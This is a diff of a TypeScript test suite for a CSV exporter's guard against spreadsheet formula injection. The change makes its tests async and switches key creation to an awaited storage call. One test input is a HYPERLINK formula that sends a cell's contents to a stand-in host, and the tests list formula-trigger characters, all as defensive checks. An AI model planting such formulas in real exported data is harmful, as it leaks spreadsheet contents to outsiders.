@@ -95,7 +95,7 @@ function expectedText(s: string): string {
 }
 
 describe('the rule', () => {
-  it('neutralizes formula triggers in text, keeps numbers exact, and quotes what RFC 4180 requires', () => {
+  it('neutralizes formula triggers in text, keeps numbers exact, and quotes what RFC 4180 requires', async () => {
     expect(csvCell('text', '=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`)
     for (const s of ['=1+1', '+1', '-5', '@SUM(A1)', '\t=1', '\r=1', ' =1', '\u3000=1', '＝1+1', '＋1', '－1', '＠A', "'x"]) {
       expect(csvCell('text', s), JSON.stringify(s)).toBe(`"'${s}"`)
@@ -111,7 +111,7 @@ describe('the rule', () => {
     expect(csvCell('text', '')).toBe('')
   })
 
-  it('any text: a strict reader gets one field, the neutralized cell; dropping one leading \' gives the original back', () => {
+  it('any text: a strict reader gets one field, the neutralized cell; dropping one leading \' gives the original back', async () => {
     fc.assert(
       fc.property(csvText, (s) => {
         const cell = csvCell('text', s)
@@ -128,7 +128,7 @@ describe('the rule', () => {
     )
   })
 
-  it('any number: written as it is, never prefixed', () => {
+  it('any number: written as it is, never prefixed', async () => {
     fc.assert(
       fc.property(decimal, (d) => {
         expect(csvCell('number', d)).toBe(d)
@@ -136,7 +136,7 @@ describe('the rule', () => {
     )
   })
 
-  it('the lead table is every control, space and format character and every character NFKC reads as = + - @ \'', () => {
+  it('the lead table is every control, space and format character and every character NFKC reads as = + - @ \'', async () => {
     const triggers = /^[=+\-@']/
     const wrong: string[] = []
     for (let c = 0; c <= 0x10ffff; c++) {
@@ -160,7 +160,7 @@ describe('the rule in SQL', () => {
     number: db.prepare(`SELECT '' || (${csvCellSql('number', '@v')})`).pluck(),
   }
 
-  it('agrees with the JavaScript rule on generated text and numbers', () => {
+  it('agrees with the JavaScript rule on generated text and numbers', async () => {
     fc.assert(
       fc.property(csvText, (v) => {
         expect(sql.text.get({ v })).toBe(csvCell('text', v))
@@ -179,7 +179,7 @@ describe('the rule in SQL', () => {
     expect(sql.text.get({ v: null })).toBe('')
   })
 
-  it('agrees at every boundary of the tables, as the first character and inside the text', () => {
+  it('agrees at every boundary of the tables, as the first character and inside the text', async () => {
     const points = new Set<number>()
     for (let c = 0; c < 0x3100; c++) points.add(c)
     for (const [from, to] of NEUTRALIZED_LEADS) for (const c of [from - 1, from, to, to + 1]) points.add(c)
@@ -209,7 +209,7 @@ describe('the line in SQL', () => {
   let id = 0
   const DIRTY = ['indicator', 'area', 'period', 'kind', 'unit', 'qualifier', 'status', 'reportedUnit', 'reportedText', 'sourceId', 'quote', 'involved', 'recordedAt'] as const
 
-  it('equals the JavaScript line whichever column holds the text, clean rows and rows to quote alike', () => {
+  it('equals the JavaScript line whichever column holds the text, clean rows and rows to quote alike', async () => {
     const maybe = (a: fc.Arbitrary<string>) => fc.option(a, { nil: null })
     fc.assert(
       fc.property(
@@ -265,8 +265,8 @@ describe('the export, end to end', () => {
 
   beforeAll(async () => {
     t = await buildTestApp({ build: { config: { databaseUrl: ':memory:', rateLimitPerMinute: 1_000_000 } } })
-    admin = createKey(t.db, 'csv-admin', ['admin']).secret
-    writer = createKey(t.db, 'csv-writer', ['write']).secret
+    admin = (await createKey(t.storage, 'csv-admin', ['admin'])).secret
+    writer = (await createKey(t.storage, 'csv-writer', ['write'])).secret
   })
   afterAll(() => t.close())
 
@@ -310,7 +310,7 @@ describe('the export, end to end', () => {
     })
   }
 
-  it('declares every column text or number, numbers being the ids, values and offsets', () => {
+  it('declares every column text or number, numbers being the ids, values and offsets', async () => {
     expect([...CSV_TEXT_COLUMNS, ...CSV_NUMBER_COLUMNS].sort()).toEqual([...CSV_COLUMNS].sort())
     expect(CSV_NUMBER_COLUMNS).toEqual(['id', 'value', 'reported_value', 'byte_start', 'byte_end', 'revision'])
   })
